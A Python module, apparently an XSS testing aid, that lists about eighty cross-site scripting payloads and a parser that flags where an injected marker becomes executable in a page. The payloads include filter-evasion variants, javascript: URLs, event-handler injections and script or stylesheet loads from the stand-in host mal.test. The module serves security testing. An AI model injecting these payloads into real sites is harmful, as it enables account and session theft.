"""Eighty ways to make a page execute what somebody typed, and how to tell that one did."""

from html.parser import HTMLParser

MARQUE = "xss0"
_APPEL = f"window.__xss='{MARQUE}'"
_EVENEMENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "onbegin", "ontoggle"),
    *("onpointerrawupdate", "onpageshow", "oncut", "onwheel", "onscrollend"),
)
_BALISES = ("svg", "img src=x", "details open", "video src=x", "body", "input autofocus", "marquee", "iframe srcdoc=x")
_EXECUTANTS = (
    f"<script>{_APPEL}</script>",
    f"<ScRiPt>{_APPEL}</sCrIpT>",
    f"<script/{MARQUE}>{_APPEL}</script>",
    f"<scr<script>ipt>{_APPEL}</scr</script>ipt>",
    f"<script src=//mal.test/{MARQUE}.js></script>",
    f"</textarea><script>{_APPEL}</script>",
    f"</title><script>{_APPEL}</script>",
    f"</style><script>{_APPEL}</script>",
    f"--><script>{_APPEL}</script>",
    f"]]><script>{_APPEL}</script>",
    f"'\"><script>{_APPEL}</script>",
    f"</script><script>{_APPEL}</script>",
    f'<a href="javascript:{_APPEL}">{MARQUE}</a>',
    f'<a href="java\tscript:{_APPEL}">{MARQUE}</a>',
    f'<a href="&#106;avascript:{_APPEL}">{MARQUE}</a>',
    f'<form action="javascript:{_APPEL}"><button>{MARQUE}</button></form>',
    f'<object data="javascript:{_APPEL}"></object>',
    f'<embed src="data:text/html;base64,{MARQUE}">',
    f'<iframe srcdoc="<script>{_APPEL}</script>"></iframe>',
    f"<base href=//mal.test/{MARQUE}/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{_APPEL}">',
    f"<link rel=stylesheet href=//mal.test/{MARQUE}.css>",
    f"<style>@import '//mal.test/{MARQUE}.css';</style>",
    f'<div style="background:url(javascript:{_APPEL})">',
    f'<math href="javascript:{_APPEL}">{MARQUE}</math>',
    f"<svg><script>{_APPEL}</script></svg>",
    f'<svg><a xlink:href="javascript:{_APPEL}"><text>{MARQUE}</text></a></svg>',
    f'<noscript><p title="</noscript><img src=x onerror={_APPEL}>">',
    f"<template><script>{_APPEL}</script></template>",
    f'<table background="javascript:{_APPEL}">',
    f"[lien](javascript:{_APPEL})",
    f'![image](x" onerror="{_APPEL})',
    f"<javascript:{_APPEL}>",
    f"`<script>{_APPEL}</script>`",
    f"{{{{ '{MARQUE}'|safe }}}}",
    f"{{% include '{MARQUE}' %}}",
    f"${{{_APPEL}}}",
    f'" autofocus onfocus="{_APPEL}',
    f"' autofocus onfocus='{_APPEL}",
    f"x onmouseover={_APPEL} ",
    f"\u2028<script>{_APPEL}</script>",
    f"\uff1cscript\uff1e{_APPEL}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_APPEL}+ADw-/script+AD4-",
    f"%3Cscript%3E{_APPEL}%3C/script%3E",
    f"&lt;script&gt;{_APPEL}&lt;/script&gt;",
    f"<img src=x onerror\x0b={_APPEL}>",
    f"<img/src=x/onerror={_APPEL}>",
    f"<<script>{_APPEL}//<</script>",
)
CHARGES = (
    *_EXECUTANTS,
    *(f"<{balise} {evenement}={_APPEL}>" for balise, evenement in zip(_BALISES * 4, _EVENEMENTS * 3, strict=False)),
)
_PORTEURS = {"href", "src", "action", "formaction", "data", "background", "srcdoc", "xlink:href", "content", "style"}


class _Lecteur(HTMLParser):
    """Reads a page as a browser would and notes where the mark became something else than text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.fautes: list[str] = []
        self._brut = ""

    def handle_starttag(self, balise: str, attributs: list[tuple[str, str | None]]) -> None:
        if MARQUE in balise:
            self.fautes.append(f"balise {balise[:60]}")
        for nom, valeur in attributs:
            if MARQUE in nom or (
                MARQUE in (valeur or "") and (nom.startswith("on") or nom in _PORTEURS - _inertes(valeur))
            ):
                self.fautes.append(f"<{balise} {nom}={(valeur or '')[:60]}>")
        self._brut = balise if balise in {"script", "style"} else ""

    handle_startendtag = handle_starttag

    def handle_data(self, texte: str) -> None:
        if self._brut and MARQUE in texte:
            self.fautes.append(f"{self._brut} {texte[:60]}")

    def handle_comment(self, texte: str) -> None:
        if MARQUE in texte:
            self.fautes.append(f"commentaire {texte[:60]}")

    def handle_endtag(self, balise: str) -> None:
        self._brut = ""


def _inertes(valeur: str | None) -> set[str]:
    """An address of ours that only carries the mark, a mail or a telephone number: nothing there executes."""
    inerte = (valeur or "").startswith(("/", "?", "mailto:", "tel:")) and not (valeur or "").startswith("//")
    return _PORTEURS if inerte else set()


def actives(page: str) -> list[str]:
    """Where a payload is more than text in this page."""
    lecteur = _Lecteur()
    lecteur.feed(page)
    lecteur.close()
    return lecteur.fautes
